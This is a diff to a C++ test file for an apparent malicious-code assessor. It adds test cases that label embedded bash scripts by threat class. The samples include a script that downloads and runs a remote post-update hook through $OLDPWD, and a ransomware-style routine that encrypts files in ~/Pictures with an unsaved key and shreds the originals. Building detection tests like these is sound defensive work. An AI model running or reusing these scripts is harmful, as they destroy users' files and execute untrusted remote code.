@@ -1,9 +1,9 @@
 // The classes the twenty-seventh session modelled (issue 14), from the tune
-// parts of the hundred-and-nineteenth, -twenty-first, -twenty-second and
-// -twenty-fifth rounds (tests/corpus/prog123_MANIFEST.tsv, prog125_,
-// prog126_, prog129_) and real code installed from Debian (impacket's
-// timers): programs written from the rubric alone by writers who never saw
-// the assessor. Strings here are never executed.
+// parts of the hundred-and-nineteenth, -twenty-first, -twenty-second,
+// -twenty-fifth and -twenty-eighth rounds (tests/corpus/prog123_MANIFEST.tsv,
+// prog125_, prog126_, prog129_, prog132_) and real code installed from
+// Debian (impacket's timers): programs written from the rubric alone by
+// writers who never saw the assessor. Strings here are never executed.
 
 #include "test_util.hpp"
 
@@ -1077,6 +1077,84 @@ TEST(HundredAndTwentyFifthRoundClasses, AFileBesideTheProgramIsNotTheProgram) {
        "        break\n"
        "    subprocess.Popen([sys.executable, __file__, msg[\"name\"]])\n",
        "FORK-BOMB"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// `( cd "$DEST" && bash "$OLDPWD/$hook" )`: a hook named in a downloaded
+// manifest, downloaded under ./.state and run from the templates directory by
+// its path from where the cd left. $OLDPWD was unknown; it is where the last
+// cd left from, as a path from the working directory (".." after cd
+// ./templates), so the hook run is the download. Copied instead: LOW.
+TEST(HundredAndTwentyEighthRoundClasses, OldpwdIsWhereTheLastCdLeftFrom) {
+  const Case cases[] = {
+      {"a downloaded post-update hook run through $OLDPWD", B,
+       "#!/usr/bin/env bash\n"
+       "set -eu\n"
+       "CDN=\"https://assets.example.net/templates\"\n"
+       "DEST=\"./templates\"\n"
+       "STATE=\"./.state\"\n"
+       "mkdir -p \"$DEST\" \"$STATE\"\n"
+       "curl -fsSL -o \"$STATE/manifest.json\" \"$CDN/manifest.json\"\n"
+       "post=\"$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1])).get(\"post_update\",\"\"))' \"$STATE/manifest.json\")\"\n"
+       "if [ -n \"$post\" ]; then\n"
+       "    hook=\"$STATE/post_update\"\n"
+       "    curl -fsSL -o \"$hook\" \"$CDN/$post\"\n"
+       "    ( cd \"$DEST\" && bash \"$OLDPWD/$hook\" )\n"
+       "fi\n",
+       "REMOTE-CODE-EXECUTION", SH},
+      {"the same hook copied through $OLDPWD", L,
+       "#!/usr/bin/env bash\n"
+       "set -eu\n"
+       "CDN=\"https://assets.example.net/templates\"\n"
+       "DEST=\"./templates\"\n"
+       "STATE=\"./.state\"\n"
+       "mkdir -p \"$DEST\" \"$STATE\"\n"
+       "curl -fsSL -o \"$STATE/manifest.json\" \"$CDN/manifest.json\"\n"
+       "post=\"$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1])).get(\"post_update\",\"\"))' \"$STATE/manifest.json\")\"\n"
+       "if [ -n \"$post\" ]; then\n"
+       "    hook=\"$STATE/post_update\"\n"
+       "    curl -fsSL -o \"$hook\" \"$CDN/$post\"\n"
+       "    ( cd \"$DEST\" && cp \"$OLDPWD/$hook\" ./post_update.txt )\n"
+       "fi\n",
+       nullptr, SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// `xargs -0 -n 1 bash -c 'pack_one "$0"'`: sh -c CODE NAME ARGS gives NAME as
+// the code's $0, here each file find walked; $0 was the program's own path,
+// so the exported function encrypted and shredded nothing known. Each
+// walked picture encrypted and shredded: RANSOMWARE-ENCRYPT-AND-DELETE;
+// encrypted copies beside the originals: LOW.
+TEST(HundredAndTwentyEighthRoundClasses, ShDashCGivesItsNameAsDollarZero) {
+  const Case cases[] = {
+      {"pictures encrypted and shredded through xargs bash -c", B,
+       "#!/usr/bin/env bash\n"
+       "set -eu\n"
+       "pack_one() {\n"
+       "    local src=$1\n"
+       "    openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:BUNDLE_KEY -in \"$src\" -out \"$src.vlt\"\n"
+       "    shred -fzu -n 1 \"$src\"\n"
+       "}\n"
+       "export -f pack_one\n"
+       "BUNDLE_KEY=$(openssl rand -hex 32)\n"
+       "export BUNDLE_KEY\n"
+       "find \"$HOME/Pictures\" -type f ! -name '*.vlt' -print0 | xargs -0 -r -n 1 bash -c 'pack_one \"$0\"'\n",
+       "RANSOMWARE-ENCRYPT-AND-DELETE", SH},
+      {"the same copies with the originals kept", L,
+       "#!/usr/bin/env bash\n"
+       "set -eu\n"
+       "pack_one() {\n"
+       "    local src=$1\n"
+       "    openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:BUNDLE_KEY -in \"$src\" -out \"$src.vlt\"\n"
+       "    touch -r \"$src\" \"$src.vlt\"\n"
+       "}\n"
+       "export -f pack_one\n"
+       "BUNDLE_KEY=$(openssl rand -hex 32)\n"
+       "export BUNDLE_KEY\n"
+       "find \"$HOME/Pictures\" -type f ! -name '*.vlt' -print0 | xargs -0 -r -n 1 bash -c 'pack_one \"$0\"'\n",
+       nullptr, SH},
   };
   for (const auto& c : cases) check(c);
 }
